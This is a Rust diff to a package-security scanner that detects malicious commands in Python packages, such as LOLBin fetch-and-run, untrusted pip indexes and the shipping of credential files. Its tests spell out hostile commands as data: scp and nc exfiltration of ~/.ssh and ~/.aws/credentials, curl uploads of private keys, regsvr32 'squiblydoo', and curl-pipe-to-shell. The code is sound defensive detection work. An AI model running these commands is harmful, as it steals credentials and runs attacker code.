@@ -81,8 +81,10 @@ static DOWNLOADER_COMMAND: LazyLock<Regex> = crate::static_regex!(
     | /dev/tcp/ | \bnc\s+-[a-z]*e | \|\s*(ba|z|da)?sh\b | base64\s+(-d|--decode) | -encodedcommand | \s-enc\s
     | https?://\S+\.(exe|scr|msi|bat|ps1|vbs|hta|jar|dll)\b
     | stratum\+(tcp|ssl):// | \bxmrig\b | --donate-level | \b(supportxmr|minexmr|moneroocean|hashvault|nanopool|nicehash)\b
-    | \bshutdown(\.exe)?\s+[/-][srf]\b | \brm\s+-[a-z]*r[a-z]*f?\s+/(\s|$|\*) | \bformat\s+[a-z]:
+    | \bshutdown(\.exe)?\s+[/-][srf]\b | \brm\s+-[a-z]*r[a-z]*f?\s+/(\s|$|\*) | \brm\s+-[a-z]*r[a-z]*\s+(~|\$home|\$\{home\})/?\*?(\s|$) | \bformat\s+[a-z]:
     | \breg(\.exe)?\s+add\b.*\\(run|runonce)\b
+    | \bregsvr32(\.exe)?\b.*\s/i:\s*[\x22']?(https?|ftp):// | \bmsiexec(\.exe)?\b.*\s[\x22']?(https?|ftp)://
+    | \brundll32(\.exe)?\b.*(javascript:|(https?|ftp)://)
     "
 );
 
@@ -129,6 +131,61 @@ const TRUSTED_PIP_HOSTS: &[&str] = &[
 pub fn pip_install_off_index(command: &str) -> Option<String> {
     let args = pip_install_args(command)?;
     untrusted_archive_host(args.split_whitespace(), true)
+}
+
+/// The host of the package index a `pip install` command installs from when that index is no
+/// real one: a bare IP address or a plain-http server (`--index-url http://203.0.113.5/simple`).
+/// Private indexes are served over https under their owners' names; an address with neither
+/// serves whatever its owner puts there under the names the command asks for. The machine's
+/// own loopback (a test's local index) is not this.
+pub fn pip_install_untrusted_index(command: &str) -> Option<String> {
+    let args = pip_install_args(command)?;
+    let mut previous = "";
+    for word in args.split_whitespace() {
+        let word = word.trim_matches(|c| c == '"' || c == '\'' || c == ',');
+        let index_option = |option: &str| {
+            matches!(
+                option,
+                "-i" | "--index-url" | "--extra-index-url" | "-f" | "--find-links"
+            )
+        };
+        let value = if index_option(previous) {
+            Some(word)
+        } else {
+            word.split_once('=')
+                .filter(|(option, _)| option.starts_with("--") && index_option(option))
+                .map(|(_, value)| value)
+        };
+        previous = word;
+        let Some(url) = value else {
+            continue;
+        };
+        let (plain_http, rest) = if let Some(rest) = url.strip_prefix("http://") {
+            (true, rest)
+        } else if let Some(rest) = url.strip_prefix("https://") {
+            (false, rest)
+        } else {
+            continue;
+        };
+        let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+        let host_port = authority.rsplit('@').next().unwrap_or(authority);
+        let host = host_port
+            .rsplit_once(':')
+            .filter(|(_, port)| port.bytes().all(|b| b.is_ascii_digit()))
+            .map_or(host_port, |(host, _)| host)
+            .to_ascii_lowercase();
+        if host.is_empty() || host.contains(['{', '…', '[', '$', '%']) {
+            continue;
+        }
+        let address = host.parse::<std::net::IpAddr>().ok();
+        if host == "localhost" || address.is_some_and(|a| a.is_loopback()) {
+            continue;
+        }
+        if address.is_some() || plain_http {
+            return Some(host);
+        }
+    }
+    None
 }
 
 fn pip_install_args(command: &str) -> Option<&str> {
@@ -192,6 +249,33 @@ pub fn pip_install_from_vcs(command: &str) -> Option<String> {
     );
     let url = PIP_VCS.captures(command)?.name("url")?.as_str();
     (!url.contains('{') && !url.contains('…')).then(|| url.to_owned())
+}
+
+/// The credential store a command line ships to another machine: a store's path among the
+/// words of a command that transfers files (`scp ~/.aws/credentials u@host:`, `tar czf - ~/.ssh
+/// | nc host 4444`, `curl -F f=@~/.ssh/id_rsa URL`). Returns the store's label and its path.
+pub fn ships_credential_store(command: &str) -> Option<(&'static str, String)> {
+    static TRANSFER: LazyLock<Regex> = crate::static_regex!(
+        r"(?ix)
+        \b(scp|rsync|sftp|ncat|netcat|socat)(\.exe)?\b | (^|[\s|;&])nc(\.exe)?\s
+        | \bcurl(\.exe)?\b.*(\s-F\b|\s--form\b|\s-d\s*[\x22']?@|\s--data(-binary|-raw)?[\s=][\x22']?@|\s--upload-file\b|\s-T\s)
+        | \bwget\b.*--post-file
+        "
+    );
+    let command = command_head(command);
+    if !TRANSFER.is_match(command) {
+        return None;
+    }
+    command.split_whitespace().take(256).find_map(|word| {
+        let word = word.trim_matches(|c| matches!(c, '"' | '\'' | ',' | ')' | '('));
+        // `f=@/home/u/.ssh/id_rsa`, `@~/.aws/credentials`: the file part of a form field.
+        let path = word.rsplit(['@', '=']).next().unwrap_or(word);
+        let path = path.trim_matches(|c| matches!(c, '"' | '\''));
+        let path = path
+            .strip_prefix("$HOME")
+            .map_or_else(|| path.to_owned(), |rest| format!("~{rest}"));
+        super::sources::secret_path_label(&path).map(|label| (label, path))
+    })
 }
 
 /// True when a command line switches off or blinds the machine's defences.
@@ -427,7 +511,15 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     );
     check_runs_package_script(checker, call, known.unwrap_or(&shown), context);
     let evasion = known.filter(|text| disables_defenses(text));
-    let off_index = known.and_then(|text| pip_install_off_index(text).map(|host| (text, host)));
+    let shipped = known.and_then(|text| ships_credential_store(text).map(|store| (text, store)));
+    let off_index = known.and_then(|text| {
+        pip_install_off_index(text)
+            .map(|host| (text, format!("{host}, outside any package index")))
+            .or_else(|| {
+                pip_install_untrusted_index(text)
+                    .map(|host| (text, format!("the ad-hoc index at {host}")))
+            })
+    });
     let from_vcs = known.and_then(|text| pip_install_from_vcs(text).map(|url| (text, url)));
     let (severity, tags, message) = match (&command, &partial) {
         _ if let Some((text, host)) = off_index => (
@@ -440,7 +532,7 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             },
             vec!["spawn", "pip-install", "off-index-install"],
             format!(
-                "{qualname} runs `{}`, which installs a package from {host}, outside any package index",
+                "{qualname} runs `{}`, which installs a package from {host}",
                 crate::text::shorten(text, 160)
             ),
         ),
@@ -462,6 +554,20 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             format!(
                 "{qualname} runs `{}`, which installs the current state of {url}, code no package index has seen",
                 crate::text::shorten(text, 160)
+            ),
+        ),
+        _ if let Some((text, (label, path))) = shipped => (
+            // Copying a key or credentials file to another machine is the theft itself.
+            match context {
+                ExecContext::Install | ExecContext::Import => 0.92,
+                ExecContext::Runtime => 0.6,
+                ExecContext::TestOrDocs => 0.1,
+            },
+            vec!["spawn", "ships-credentials"],
+            format!(
+                "{qualname} runs `{}`, which sends the {label} `{}` to another machine",
+                crate::text::shorten(text, 160),
+                crate::text::shorten(&path, 60)
             ),
         ),
         _ if let Some(text) = evasion => (
@@ -510,8 +616,17 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
                 },
             ],
             format!(
-                "{qualname} runs `{}` (… = computed at run time)",
-                crate::text::shorten(partial, 160)
+                "{qualname} runs `{}`{}",
+                crate::text::shorten(partial, 160),
+                if partial.contains(crate::fold::UNKNOWN) {
+                    " (… = computed at run time)"
+                } else if command_arg
+                    .is_some_and(|arg| super::environment_default(checker, arg).is_some())
+                {
+                    " (the default of an environment variable)"
+                } else {
+                    ""
+                }
             ),
         ),
         _ => classify_command(command.as_ref(), qualname, context, &shown),
@@ -1093,6 +1208,37 @@ mod tests {
             None
         );
         assert_eq!(pip_install_off_index("pip install requests"), None);
+        assert_eq!(
+            pip_install_untrusted_index(
+                "… -m pip install --index-url http://203.0.113.25:8080/simple helpers"
+            ),
+            Some("203.0.113.25".to_owned())
+        );
+        assert_eq!(
+            pip_install_untrusted_index("pip install -i=https://198.51.100.3/simple x"),
+            None,
+            "`-i=` is no pip option spelling"
+        );
+        assert_eq!(
+            pip_install_untrusted_index(
+                "pip install --extra-index-url=https://198.51.100.3/simple x"
+            ),
+            Some("198.51.100.3".to_owned())
+        );
+        assert_eq!(
+            pip_install_untrusted_index("pip install -f http://mirror.example.invalid/wheels x"),
+            Some("mirror.example.invalid".to_owned())
+        );
+        assert_eq!(
+            pip_install_untrusted_index(
+                "pip install --extra-index-url https://download.pytorch.org/whl/cpu torch"
+            ),
+            None
+        );
+        assert_eq!(
+            pip_install_untrusted_index("pip install -i http://127.0.0.1:8080/simple x"),
+            None
+        );
         let code = "import os, sys\nos.system(f'{sys.executable} -m pip install https://files.pypihosted.org/p/x-1.0.whl')\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.7);
         let forge = "import os\nos.system('pip install git+https://github.com/a/b.git')\n";
@@ -1149,11 +1295,48 @@ mod tests {
         assert!(is_dangerous_command("shutdown /s -f -t 0"));
         assert!(is_dangerous_command("rm -rf / --no-preserve-root"));
         assert!(!is_dangerous_command("rm -rf build/"));
+        for shipping in [
+            "scp -o StrictHostKeyChecking=no ~/.aws/credentials u@198.51.100.9:/srv/",
+            "tar czf - ~/.ssh 2>/dev/null | nc 198.51.100.9 4444",
+            "curl -s -F 'f=@'$HOME'/.ssh/id_rsa' https://x.invalid/in",
+            "curl --data-binary @~/.git-credentials https://x.invalid/in",
+        ] {
+            assert!(ships_credential_store(shipping).is_some(), "{shipping}");
+        }
+        for local in [
+            "cp ~/.ssh/id_rsa /tmp/backup",
+            "scp build/dist.tar.gz deploy@host:/srv/",
+            "chmod 600 ~/.ssh/id_rsa",
+            "curl -F file=@dist/report.html https://x.invalid/upload",
+        ] {
+            assert!(ships_credential_store(local).is_none(), "{local}");
+        }
+        assert!(is_dangerous_command("rm -rf ~/* "));
+        assert!(is_dangerous_command("rm -rf $HOME"));
+        assert!(!is_dangerous_command("rm -rf ~/.cache/pip"));
+        // Windows' signed helpers that fetch and run remote code (squiblydoo, remote MSI).
+        assert!(is_dangerous_command(
+            "regsvr32 /s /n /u /i:http://x.invalid/f.sct scrobj.dll"
+        ));
+        assert!(is_dangerous_command(
+            "msiexec /q /i https://x.invalid/a.msi"
+        ));
+        assert!(is_dangerous_command(
+            "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\""
+        ));
+        assert!(!is_dangerous_command("regsvr32 /s mylib.dll"));
+        assert!(!is_dangerous_command("msiexec /i dist\\tool.msi"));
         let code =
             "import os as o\no.system('wget http://x.invalid/p -O /tmp/p; chmod +x /tmp/p')\n";
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
         let code = "from subprocess import Popen as P\nP(['powershell', '-w', 'hidden', '-enc', 'AAAA'])\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.9);
+        // The default of an environment lookup is the command wherever the variable is unset.
+        let code =
+            "import os\nos.system(os.environ.get('BOOT', 'curl -s http://x.invalid/b | sh'))\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.85);
+        let code = "import os\nos.system(os.getenv('EDITOR', 'vi'))\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") < 0.5);
     }
 
     #[test]
